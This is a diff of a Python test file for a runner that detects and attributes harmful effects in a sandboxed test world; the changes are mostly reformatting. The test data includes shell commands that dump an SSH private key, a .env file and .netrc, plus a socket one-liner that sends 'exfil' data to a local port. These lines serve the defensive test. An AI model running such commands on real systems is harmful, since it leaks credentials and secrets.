@@ -12,8 +12,7 @@ import subprocess
 import time
 
 from canaries import World, seen
-from conftest import needs_sandbox
-from runner import run_cli, run_in_process
+from runner import needs_sandbox, run_cli, run_in_process
 
 
 def test_a_fresh_world_has_no_effects_twice(world: World) -> None:
@@ -23,7 +22,14 @@ def test_a_fresh_world_has_no_effects_twice(world: World) -> None:
 
 def test_every_kind_of_effect_is_reported(world: World) -> None:
     dumped = subprocess.run(
-        ["sh", "-c", f"base64 {world.home}/.ssh/id_rsa; od -c {world.workspace}/.env; rev {world.home}/.netrc"], capture_output=True, text=True, check=True
+        [
+            "sh",
+            "-c",
+            f"base64 {world.home}/.ssh/id_rsa; od -c {world.workspace}/.env; rev {world.home}/.netrc",
+        ],
+        capture_output=True,
+        text=True,
+        check=True,
     ).stdout
     (world.outside / "victim.txt").write_text("overwritten")
     (world.outside / "victim_dir" / "planted").write_text("new")
@@ -74,8 +80,14 @@ def test_tokens_are_found_however_they_are_printed() -> None:
 
 def test_the_runner_names_the_command_that_did_it(world: World) -> None:
     """Sandbox off, every bash command allowed: the harm is real and the runner must say which command did it."""
-    harm = f"python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {world.tcp_port})).sendall(b\"exfil\")'"
-    report = run_cli(world, ["ls", harm, "pwd"], profile="full-access", sandbox=False, extra_config='[permissions]\nallow = ["shell"]\n')
+    harm = f'python3 -c \'import socket; socket.create_connection(("127.0.0.1", {world.tcp_port})).sendall(b"exfil")\''
+    report = run_cli(
+        world,
+        ["ls", harm, "pwd"],
+        profile="full-access",
+        sandbox=False,
+        extra_config='[permissions]\nallow = ["shell"]\n',
+    )
     assert [o.ran for o in report.outcomes] == [True, True, True], report.describe()
     assert [bool(o.effects) for o in report.outcomes] == [False, True, False], report.describe()
     assert report.outcomes[1].effects[0].kind == "contacted"
